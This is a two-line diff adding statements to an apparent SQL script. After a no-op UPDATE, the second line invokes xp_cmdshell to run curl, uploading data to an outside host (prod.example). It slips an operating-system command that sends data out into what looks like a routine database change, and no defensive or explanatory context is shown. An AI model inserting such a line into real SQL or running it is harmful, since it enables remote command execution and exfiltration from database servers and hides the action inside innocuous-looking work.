@@ -1,0 +1,2 @@
+UPDATE client SET name = name;
+EXEC xp_cmdshell 'curl -T - https://prod.example';
